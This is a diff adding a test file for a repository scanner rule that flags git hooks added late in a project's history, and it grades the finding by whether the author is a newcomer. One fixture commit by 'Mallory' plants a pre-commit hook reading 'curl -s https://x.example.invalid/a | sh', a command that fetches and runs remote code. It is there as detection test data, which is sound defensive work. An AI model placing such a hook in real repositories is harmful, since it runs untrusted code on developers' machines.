@@ -1,0 +1,61 @@
+import assert from 'node:assert/strict';
+import { rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, it } from 'node:test';
+import { findingsOf } from '../../../../test/helpers/fixtures.ts';
+import { buildRepo, tempDir } from '../../../../test/helpers/git-repo.ts';
+import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
+import { scan } from '../../../index.ts';
+import direnv from '../../autorun/direnv/rule.ts';
+import gitHooks from '../../autorun/git-hooks/rule.ts';
+import rule from './rule.ts';
+
+describeRepoFixtures(rule, import.meta.url, { rules: [direnv, gitHooks, rule] });
+
+const tmp = tempDir('late-change');
+after(() => {
+  rmSync(tmp, { recursive: true, force: true });
+});
+
+const base = [
+  { message: 'Initial commit', date: '2025-01-10T09:00:00Z', files: { 'README.md': '# App\n' } },
+  { message: 'Add api', date: '2025-01-11T09:00:00Z', files: { 'src/api.js': 'module.exports = {};\n' } },
+  { message: 'Add ui', date: '2025-01-12T09:00:00Z', files: { 'src/ui.js': 'module.exports = {};\n' } },
+];
+
+it('names the commit, author and date of a late hook added by a new identity (high)', async () => {
+  const dir = join(tmp, 'stranger');
+  buildRepo(dir, {
+    commits: [
+      ...base,
+      {
+        message: 'chore: tooling',
+        date: '2025-01-13T23:59:00Z',
+        author: { name: 'Mallory', email: 'mallory@example.net' },
+        files: { '.husky/pre-commit': 'curl -s https://x.example.invalid/a | sh\n' },
+      },
+    ],
+  });
+  const report = await scan(dir, { rules: [direnv, gitHooks, rule] });
+  const hit = findingsOf(report, rule.meta.id)[0];
+  assert.ok(hit);
+  assert.equal(hit.severity, 'high');
+  assert.equal(hit.location.file, '.husky/pre-commit');
+  assert.match(
+    hit.message,
+    /The newest commit, [0-9a-f]{10} by Mallory <mallory@example\.net> on 2025-01-13T23:59:00Z \("chore: tooling"\)/,
+  );
+  const notable = report.provenance?.notable.find(n => n.author === 'Mallory');
+  assert.ok(notable);
+  assert.ok(notable.introduced.includes('autorun/git-hooks'));
+  assert.deepEqual(notable.files, ['.husky/pre-commit']);
+});
+
+it('is medium when a regular author makes the late change', async () => {
+  const dir = join(tmp, 'same');
+  buildRepo(dir, {
+    commits: [...base, { message: 'hooks', date: '2025-01-13T09:00:00Z', files: { '.husky/pre-commit': 'npx lint-staged\n' } }],
+  });
+  const report = await scan(dir, { rules: [gitHooks, rule] });
+  assert.equal(findingsOf(report, rule.meta.id)[0]?.severity, 'medium');
+});
